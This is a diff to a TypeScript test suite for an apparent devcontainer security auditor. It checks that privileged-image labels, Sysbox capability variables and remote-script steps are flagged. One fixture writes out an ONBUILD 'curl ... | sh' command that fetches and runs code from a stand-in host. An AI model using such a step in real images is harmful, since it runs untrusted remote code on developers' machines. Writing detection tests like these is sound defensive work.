@@ -80,6 +80,12 @@ function reasons(report: Report): readonly string[] {
 
 const label = (entry: unknown): Record<string, unknown> => ({ Labels: { 'devcontainer.metadata': JSON.stringify([entry]) } });
 
+const devcontainer = (configuration: object, dockerfile?: string): Record<string, string> => ({
+  '.devcontainer/devcontainer.json': JSON.stringify(configuration),
+  ...(dockerfile === undefined ? {} : { '.devcontainer/Dockerfile': dockerfile }),
+});
+const build = { build: { dockerfile: 'Dockerfile' } };
+
 describe.skipIf(skipReason(registryProgram === undefined, 'Debian’s docker-registry is not installed'))('from a registry', () => {
   let registry: TestRegistry;
   let host = '';
@@ -101,12 +107,6 @@ describe.skipIf(skipReason(registryProgram === undefined, 'Debian’s docker-reg
     ]);
   });
   afterAll(() => registry?.stop());
-
-  const devcontainer = (configuration: object, dockerfile?: string): Record<string, string> => ({
-    '.devcontainer/devcontainer.json': JSON.stringify(configuration),
-    ...(dockerfile === undefined ? {} : { '.devcontainer/Dockerfile': dockerfile }),
-  });
-  const build = { build: { dockerfile: 'Dockerfile' } };
 
   test('the label of the image', () => {
     const report = audit(devcontainer({ image: `${host}/privileged:1` }));
@@ -194,10 +194,11 @@ describe.skipIf(skipReason(registryProgram === undefined, 'Debian’s docker-reg
   });
 
   describeWithEngines('from an engine', 'tier: standard\n', (rig) => {
-    const image = (): string => `${host}/plain:1`;
+    let image = '';
     beforeAll(async () => {
+      image = `${host}/plain:1`;
       await rig().direct.said(
-        ...importArguments(rig().archive, image(), ['LABEL devcontainer.metadata=[{\\"privileged\\":true}]', 'ENV SYSBOX_HONOR_CAPS=true']),
+        ...importArguments(rig().archive, image, ['LABEL devcontainer.metadata=[{\\"privileged\\":true}]', 'ENV SYSBOX_HONOR_CAPS=true']),
       );
       await rig().direct.said(
         ...importArguments(rig().archive, 'only-here:1', ['ENV SYSBOX_HONOR_CAPS=true', 'ONBUILD RUN curl -fsSL https://x.example/y | sh']),
@@ -207,29 +208,29 @@ describe.skipIf(skipReason(registryProgram === undefined, 'Debian’s docker-reg
       found(audit(files, { args, socket: rig().engine.socket }), 'sysbox-variable-set').length;
 
     test('what the engine has is what it starts', () => {
-      const report = audit(devcontainer({ image: image() }), { socket: rig().engine.socket });
-      expect(found(report, 'privileged-requested')).toEqual([[expect.any(String), `image ${image()}`]]);
-      expect(variables({}, ['--docker-run', `docker run ${image()}`])).toBe(1);
-      expect(variables({ 'compose.yaml': `services: {a: {image: "${image()}"}}` })).toBe(1);
+      const report = audit(devcontainer({ image: image }), { socket: rig().engine.socket });
+      expect(found(report, 'privileged-requested')).toEqual([[expect.any(String), `image ${image}`]]);
+      expect(variables({}, ['--docker-run', `docker run ${image}`])).toBe(1);
+      expect(variables({ 'compose.yaml': `services: {a: {image: "${image}"}}` })).toBe(1);
       expect(variables({}, ['--docker-run', 'docker run only-here:1'])).toBe(1);
     });
 
     test('and what builds start from', () => {
-      expect(variables(devcontainer(build, `FROM ${image()}\n`))).toBe(1);
+      expect(variables(devcontainer(build, `FROM ${image}\n`))).toBe(1);
       const report = audit({ Dockerfile: 'FROM only-here:1\n' }, { socket: rig().engine.socket });
       expect(found(report, 'remote-script-executed')).toEqual([[expect.any(String), 'image only-here:1']]);
     });
 
     test('but where the registry is asked each time, or another platform is wanted', () => {
-      expect(variables({}, ['--docker-run', `docker run --pull always ${image()}`])).toBe(0);
-      expect(variables({ 'compose.yaml': `services: {a: {image: "${image()}", pull_policy: always}}` })).toBe(0);
-      expect(variables(devcontainer({ build: { ...build.build, options: ['--pull'] } }, `FROM ${image()}\n`))).toBe(0);
+      expect(variables({}, ['--docker-run', `docker run --pull always ${image}`])).toBe(0);
+      expect(variables({ 'compose.yaml': `services: {a: {image: "${image}", pull_policy: always}}` })).toBe(0);
+      expect(variables(devcontainer({ build: { ...build.build, options: ['--pull'] } }, `FROM ${image}\n`))).toBe(0);
       // The registry has one image, which is of this machine’s platform; docker takes it with a warning.
-      expect(variables({}, ['--docker-run', `docker run --platform linux/s390x ${image()}`])).toBe(0);
+      expect(variables({}, ['--docker-run', `docker run --platform linux/s390x ${image}`])).toBe(0);
     });
 
     test('offline, nobody is asked', () => {
-      const report = audit(devcontainer({ image: image() }), { socket: rig().engine.socket, args: ['--offline'] });
+      const report = audit(devcontainer({ image: image }), { socket: rig().engine.socket, args: ['--offline'] });
       expect(reasons(report).join()).toContain('--offline asks nobody');
     });
   });
